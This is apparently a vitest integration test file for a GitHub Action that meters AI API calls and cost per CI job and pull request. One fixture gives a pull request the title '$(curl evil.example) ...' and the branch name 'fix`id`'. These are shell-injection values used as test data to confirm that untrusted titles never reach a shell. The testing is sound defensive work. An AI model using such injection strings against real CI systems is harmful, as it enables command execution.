import { spawn } from "node:child_process";
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { AIUsageClient } from "@ai-usage/client";
import { type ProviderServer, startProviderServer } from "@ai-usage/tracker/testing";
import { build } from "esbuild";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parse } from "yaml";
import { inputNames } from "../../.github/actions/track-ai-usage/src/inputs.ts";
import { ActionJob } from "../support/action-runner.ts";
import { StackProcess } from "../support/stack-process.ts";

const repository = fileURLToPath(new URL("../..", import.meta.url));
const action = join(repository, ".github/actions/track-ai-usage");
const home = mkdtempSync(join(tmpdir(), "ai-usage-action-"));
let stack: StackProcess;
let provider: ProviderServer;
let client: AIUsageClient;
let access: { "api-url": string; token: string };

beforeAll(async () => {
  provider = await startProviderServer();
  stack = await StackProcess.start(join(home, "stack"));
  const { api_url, tokens } = stack.addresses;
  client = new AIUsageClient({ apiUrl: api_url, token: tokens.read });
  access = { "api-url": api_url, token: tokens.ingest };
});
afterAll(async () => {
  await stack?.stop();
  await provider?.close();
  rmSync(home, { recursive: true, force: true });
});

/** As GitHub sends it, without what nobody reads; others have a say in titles and branches. */
const pullRequestEvent = (head = "acme/shop") => ({
  action: "synchronize",
  number: 42,
  pull_request: {
    number: 42,
    title: "$(curl evil.example) ::error::my secret plan",
    head: { ref: "fix`id`", sha: "0a1b2c3d", repo: { full_name: head } },
    base: { ref: "main", repo: { full_name: "acme/shop" } },
    user: { login: "ada" },
  },
  repository: { full_name: "acme/shop" },
  sender: { login: "ada" },
});

let runs = 7_000;

function newJob({
  event = pullRequestEvent(),
  ...others
}: {
  event?: object;
  runId?: string;
  attempt?: string;
} = {}) {
  runs += 1;
  const runId = others.runId ?? String(runs);
  const variables = {
    GITHUB_REPOSITORY: "acme/shop",
    GITHUB_WORKFLOW: "Review #1",
    GITHUB_RUN_ID: runId,
    GITHUB_RUN_ATTEMPT: others.attempt ?? "1",
    GITHUB_JOB: "review",
    GITHUB_ACTOR: "ada",
    GITHUB_EVENT_NAME: "pull_request",
    GITHUB_REF: "refs/pull/42/merge",
  };
  const job = new ActionJob({ directory: mkdtempSync(join(home, "job-")), variables, event });
  const events = async () => (await client.events({ job: `github-run-${runId}` })).events;
  const leave = (name: string, ...lines: readonly (object | string)[]) =>
    writeFileSync(
      join(job.workspace, name),
      lines.map((line) => `${typeof line === "string" ? line : JSON.stringify(line)}\n`).join(""),
    );
  return { job, runId, events, leave };
}

const chatAnswer = (id: string) => ({
  id,
  object: "chat.completion",
  created: Math.floor(Date.now() / 1000) - 60,
  model: "gpt-4o-mini-2024-07-18",
  choices: [{ index: 0, message: { role: "assistant", content: "my secret plan" }, finish_reason: "stop" }],
  usage: { prompt_tokens: 1000, completion_tokens: 200, total_tokens: 1200 },
});

const call = {
  service: "openai",
  model: "gpt-4o-mini",
  operation: "chat",
  input_tokens: 1000,
  output_tokens: 200,
};

describe("the action around a job", () => {
  it("has what the tracker of the job's steps tells recorded with run and pull request", async () => {
    const { job, runId, events } = newJob();
    const inputs = { ...access, team: "growth", "user-id": "ada" };
    const started = await job.main(inputs);
    expect(started).toMatchObject({ exitCode: 0, outputs: { "usage-file": started.env.TRACK_TO_FILE } });
    expect(started.log).toBe(`::add-mask::${access.token}\n`);
    expect(JSON.stringify(started.env)).not.toContain(access.token);

    const step = await runStep({ ...started.env, OPENAI_BASE_URL: provider.openAIUrl });
    expect(step).toEqual({ exitCode: 0, output: "" });

    const ended = await job.post(inputs);
    expect(ended).toMatchObject({
      exitCode: 0,
      log: expect.stringContaining("Calls recorded: 2, cost: $0.0000177"),
    });
    expect(await events()).toMatchObject(
      ["answer_draft", "chat.completions"].map((operation) => ({
        operation,
        service: "openai",
        team: "growth",
        feature: "Review 1",
        environment: "ci",
        user_id: "ada",
        job_id: `github-run-${runId}`,
        github_pr: 42,
        pricing_status: "priced",
        metadata: {
          github_repository: "acme/shop",
          github_workflow: "Review #1",
          github_run_id: runId,
          github_run_attempt: "1",
          github_job: "review",
          github_actor: "ada",
          github_event: "pull_request",
        },
      })),
    );
    // Twice 19 tokens at $0.15 and 10 at $0.60 a million.
    expect(ended.summary).toBe(
      [
        "### AI usage\n",
        "| Service | Model | Calls | Input tokens | Output tokens | Cost |",
        "|---|---|--:|--:|--:|--:|",
        "| openai | gpt-4o-mini | 2 | 38 | 20 | $0.0000177 |\n",
        `Job github-run-${runId}, pull request #42.\n\n`,
      ].join("\n"),
    );
  });

  it("has nothing to say of a job without calls", async () => {
    const { job } = newJob();
    await job.main(access);
    expect(await job.post(access)).toMatchObject({
      exitCode: 0,
      log: "No calls were metered in this job.\n",
      summary: "",
    });
  });

  it("counts what a step has recorded already once", async () => {
    const { job, events } = newJob();
    const { env, outputs } = await job.main(access);
    // As a step without the tracker would, in a line of shell.
    writeFileSync(env.TRACK_TO_FILE ?? "", `${JSON.stringify(call)}\n${JSON.stringify(call)}\n`);
    const recorded = await job.main({ ...access, "usage-file": outputs["usage-file"] ?? "" }, "record");
    expect(recorded.outputs).toEqual({ calls: "2", "cost-usd": "0.00054", "unpriced-calls": "0" });
    expect((await job.post(access)).summary).toContain("| 2 | 2000 | 400 | $0.00054 |");
    expect(await events()).toHaveLength(2);
  });
});

/** A step of the job that makes calls with the tracker. It knows no token and no address of ours. */
async function runStep(env: Readonly<Record<string, string>>) {
  const script = `
    import { createTracker, withUsageContext } from "@ai-usage/tracker";
    import OpenAI from "openai";
    const tracker = createTracker();
    const openai = tracker.wrap(new OpenAI({ apiKey: "sk-test" }));
    const ask = () => openai.chat.completions.create({
      model: "gpt-4o-mini", messages: [{ role: "user", content: "my secret plan" }],
    });
    await withUsageContext({ operation: "answer_draft" }, ask);
    await ask();
    await tracker.close();`;
  const child = spawn(process.execPath, ["--import", "tsx", "--input-type=module", "--eval", script], {
    cwd: repository,
    env: {
      PATH: process.env.PATH ?? "",
      NODE_NO_WARNINGS: "1",
      ...env,
    },
    stdio: ["ignore", "pipe", "pipe"],
  });
  let output = "";
  for (const stream of [child.stdout, child.stderr]) stream.on("data", (chunk: Buffer) => (output += chunk));
  const exitCode = await new Promise<number | null>((done, fail) =>
    child.on("error", fail).on("close", done),
  );
  return { exitCode, output };
}

describe("the action with a file of usage", () => {
  it("takes metrics and providers' answers, and sends no text of them", async () => {
    const { job, leave, events } = newJob();
    const anthropic = {
      id: "msg_1",
      type: "message",
      role: "assistant",
      model: "claude-haiku-4-5",
      content: [{ type: "text", text: "my secret plan" }],
      usage: { input_tokens: 100, output_tokens: 50 },
    };
    leave(
      "usage.jsonl",
      chatAnswer("chatcmpl-1"),
      { response: anthropic, operation: "review", latency_ms: 900 },
      { ...call, job_id: undefined, metadata: { tool: "bot", github_run_id: "1" } },
    );
    const result = await job.main({ ...access, "usage-file": "usage.jsonl" });
    expect(result).toMatchObject({ exitCode: 0, outputs: { calls: "3", "unpriced-calls": "0" } });
    const recorded = await events();
    expect(recorded).toHaveLength(3);
    expect(recorded).toMatchObject(
      expect.arrayContaining([
        expect.objectContaining({ request_id: "chatcmpl-1", operation: "chat.completions", github_pr: 42 }),
        expect.objectContaining({ request_id: "msg_1", operation: "review", latency_ms: 900 }),
        expect.objectContaining({ usage: { input: 1000, output: 200 } }),
      ]),
    );
    expect(recorded.map(({ metadata }) => metadata.tool)).toContain("bot");
    expect(recorded.map(({ metadata }) => metadata.github_run_id)).not.toContain("1");
    expect(JSON.stringify([recorded, result])).not.toContain("secret plan");
  });

  it("counts a step that is run twice once, and one of another attempt again", async () => {
    const first = newJob();
    const inputs = { ...access, "usage-file": "usage.jsonl" };
    for (const { job, leave } of [first, first, newJob({ runId: first.runId, attempt: "2" })]) {
      leave("usage.jsonl", call, call);
      expect(await job.main(inputs)).toMatchObject({
        exitCode: 0,
        outputs: { calls: "2", "cost-usd": "0.00054" },
      });
    }
    const attempts = (await first.events()).map(({ metadata }) => metadata.github_run_attempt);
    expect(attempts.toSorted()).toEqual(["1", "1", "2", "2"]);
  });

  it("records the rest of a file when some of it cannot be read or is refused, and shows none of it", async () => {
    const { job, leave, events } = newJob();
    leave(
      "usage.jsonl",
      call,
      '{"service": "my secret plan',
      { ...call, prompt: "my secret plan" },
      {
        ...call,
        input_tokens: -1,
      },
    );
    const inputs = { ...access, "usage-file": "usage.jsonl" };
    const { log, ...result } = await job.main(inputs);
    expect(result).toMatchObject({ exitCode: 0, outputs: { calls: "1" } });
    expect(log).toContain(
      "::warning title=AI usage::entries of the usage file not recorded: 2 (line 2 is no JSON",
    );
    expect(log).toContain("line 3 has fields that are none of a metric (1)");
    expect(log).toContain("calls refused: 1 (input_tokens must be a whole number");
    expect(JSON.stringify([log, result])).not.toContain("secret plan");
    expect(await events()).toHaveLength(1);
    expect(await job.main({ ...inputs, "fail-on-error": "true" })).toMatchObject({ exitCode: 1 });
  });

  it("tells of calls without a price, and of those that are known by another content", async () => {
    const named = { ...call, request_id: "review-1" };
    const first = newJob();
    first.leave("usage.jsonl", named);
    const inputs = { ...access, "usage-file": "usage.jsonl" };
    expect(await first.job.main(inputs)).toMatchObject({ outputs: { calls: "1" } });
    const second = newJob();
    second.leave("usage.jsonl", { ...named, input_tokens: 5 }, call, { ...call, model: "in-<b>house" });
    const { exitCode, log, outputs, summary } = await second.job.main(inputs);
    expect({ exitCode, outputs }).toEqual({
      exitCode: 0,
      outputs: { calls: "2", "cost-usd": "0.00027", "unpriced-calls": "1" },
    });
    expect(log).toContain("::notice title=AI usage::calls recorded before with other details");
    expect(log).toContain("::notice title=AI usage::calls without a price yet, which the cost leaves out: 1");
    expect(summary).toContain("| openai | in-&#60;b&#62;house | 1 | 1000 | 200 | no price yet |\n");
    expect(summary).toContain("| **All** |  | 2 | 2000 | 400 | $0.00027, 1 without a price |\n");
  });

  it("records what another run has left as that run's, once", async () => {
    const event = {
      action: "completed",
      workflow_run: {
        id: 9_876_543_210,
        name: "Review",
        run_attempt: 3,
        run_started_at: new Date(Date.now() - 3_600_000).toISOString(),
        event: "pull_request",
        actor: { login: "grace" },
        pull_requests: [{ number: 57 }],
      },
    };
    for (const { job, leave } of [newJob({ event }), newJob({ event })]) {
      leave("usage.jsonl", call);
      const inputs = { ...access, "usage-file": "usage.jsonl", "calls-of": "triggering-run" };
      expect(await job.main(inputs)).toMatchObject({ exitCode: 0, outputs: { calls: "1" } });
      const { events } = await client.events({ job: "github-run-9876543210" });
      expect(events).toMatchObject([
        {
          github_pr: 57,
          timestamp: event.workflow_run.run_started_at,
          metadata: { github_run_attempt: "3", github_workflow: "Review", github_actor: "grace" },
        },
      ]);
      expect(events[0]?.metadata).not.toHaveProperty("github_job");
    }
  });
});

describe("the action with one call", () => {
  it("records it, each step its own", async () => {
    const { job, events } = newJob();
    const inputs = {
      ...access,
      service: "openai",
      model: "gpt-4o-mini",
      operation: "chat",
      "input-tokens": "1000",
    };
    for (const step of ["one", "two", "two"])
      expect(await job.main(inputs, step)).toMatchObject({ exitCode: 0, outputs: { "cost-usd": "0.00015" } });
    expect(await events()).toHaveLength(2);
  });

  it.each([
    [{ "api-url": "api.example" }, "api-url must be a URL"],
    [{ "fail-on-error": "yes" }, "fail-on-error must be one of true, false"],
    [{ "max-cost-usd": "1e3" }, "max-cost-usd must be an amount"],
    [{ "calls-of": "all" }, "calls-of must be one of"],
    [{ "pr-number": "0" }, "pr-number must be a whole number from 1"],
    [{ team: "a#b" }, "team must not contain #"],
    [{ service: "openai" }, "operation is required with service"],
    [{ "input-tokens": "5" }, "input-tokens is given without service"],
    [{ token: "two words" }, "token must be one word"],
  ])("fails with %o, and names the input", async (wrong, message) => {
    const { exitCode, log } = await newJob().job.main({ ...access, ...wrong });
    expect({ exitCode, log }).toEqual({
      exitCode: 1,
      log: expect.stringContaining(`::error title=AI usage::${message}`),
    });
    expect(log).not.toContain("two words");
  });
});

describe("the action when calls cannot be recorded", () => {
  const oneCall = { service: "openai", operation: "chat", "input-tokens": "5" };

  it("warns when the API is away, and fails only if it is told to", async () => {
    // Nobody listens on the port for TCP multiplexers.
    const away = { ...access, ...oneCall, "api-url": "http://127.0.0.1:1" };
    const warned = await newJob().job.main(away);
    expect(warned).toMatchObject({ exitCode: 0, outputs: { calls: "0" } });
    expect(warned.log).toContain(
      "::warning title=AI usage::calls not recorded: 1 (http://127.0.0.1:1 cannot be reached",
    );
    const failed = await newJob().job.main({ ...away, "fail-on-error": "true" });
    expect(failed).toMatchObject({
      exitCode: 1,
      log: expect.stringContaining("::error title=AI usage::calls not"),
    });
  });

  it("warns when there is no file", async () => {
    const inputs = { ...access, "usage-file": "not-there.jsonl" };
    const warning = "::warning title=AI usage::usage-file names a file that is not there";
    const { exitCode, log } = await newJob().job.main(inputs);
    expect({ exitCode, log }).toEqual({ exitCode: 0, log: expect.stringContaining(warning) });
    expect(await newJob().job.main({ ...inputs, "fail-on-error": "true" })).toMatchObject({ exitCode: 1 });
  });

  it("goes on without the secret that forks do not get, and warns where it should be there", async () => {
    const inputs = { ...access, ...oneCall, token: "", "fail-on-error": "true" };
    const fork = await newJob({ event: pullRequestEvent("mallory/shop") }).job.main(inputs);
    expect(fork).toMatchObject({
      exitCode: 0,
      log: expect.stringContaining("::notice title=AI usage::not recorded"),
    });
    expect(fork.summary).toContain("| openai |  | 1 | 5 | 0 |\n");
    expect(await newJob().job.main(inputs)).toMatchObject({
      exitCode: 1,
      log: expect.stringContaining("::error title=AI usage::not recorded: token is empty"),
    });
  });
});

describe("max-cost-usd", () => {
  it.each([
    ["0.00027", 0],
    ["0.000269999999999999", 1],
  ])("of %s ends with %i when calls cost 0.00027", async (max, exitCode) => {
    const { job, leave } = newJob();
    leave("usage.jsonl", call);
    const result = await job.main({ ...access, "usage-file": "usage.jsonl", "max-cost-usd": max });
    expect(result).toMatchObject({ exitCode, outputs: { "cost-usd": "0.00027" } });
    expect(result.log.includes("more than max-cost-usd")).toBe(exitCode === 1);
  });
});

describe("action.yml", () => {
  const { inputs, runs: how } = parse(readFileSync(join(action, "action.yml"), "utf8"));

  it("declares the inputs that the code reads, and no others", () => {
    expect(Object.keys(inputs)).toEqual([...inputNames]);
  });

  it("runs files that are there, with nothing installed", async () => {
    const { metafile } = await build({
      entryPoints: [how.main, how.post].map((file: string) => join(action, file)),
      ...{ bundle: true, write: false, outdir: home, platform: "node", format: "esm" },
      ...{ packages: "external", metafile: true, logLevel: "silent" },
    });
    const imports = Object.values(metafile.inputs).flatMap((input) => input.imports);
    const installed = imports.filter(({ external, path }) => external && !path.startsWith("node:"));
    expect(installed.map(({ path }) => path)).toEqual([]);
    expect(how.using).toBe("node24");
  });
});

describe("the workflows", () => {
  const folder = join(repository, ".github/workflows");
  const read = (name: string) => parse(readFileSync(join(folder, name), "utf8"));

  it.each(readdirSync(folder))(
    "%s uses actions by their commit, and puts no text of others into a shell",
    (name) => {
      const { jobs, permissions } = read(name);
      expect(permissions).toEqual({});
      for (const { steps } of Object.values<{ steps: { uses?: string; run?: string }[] }>(jobs)) {
        for (const { uses, run } of steps) {
          if (uses !== undefined) expect(uses).toMatch(/^\.\/|@[0-9a-f]{40}$/);
          expect(run ?? "").not.toContain("${{");
        }
      }
    },
  );

  it("track-ai-usage.yml hands each of its inputs on to an input that the action has", () => {
    const { on, jobs } = read("track-ai-usage.yml");
    const { steps } = jobs.record;
    const handed = steps.find(({ uses }: { uses?: string }) => uses?.endsWith("/track-ai-usage")).with;
    expect(inputNames).toEqual(expect.arrayContaining(Object.keys(handed)));
    const text = JSON.stringify(jobs);
    for (const name of Object.keys(on.workflow_call.inputs)) expect(text).toContain(`inputs.${name}`);
    const used = [...text.matchAll(/\binputs\.([\w-]+)/g)].map(([, name = ""]) => name);
    expect(Object.keys(on.workflow_call.inputs)).toEqual(expect.arrayContaining(used));
    expect(Object.keys(on.workflow_call.secrets)).toEqual(["ai-usage-token"]);
  });
});
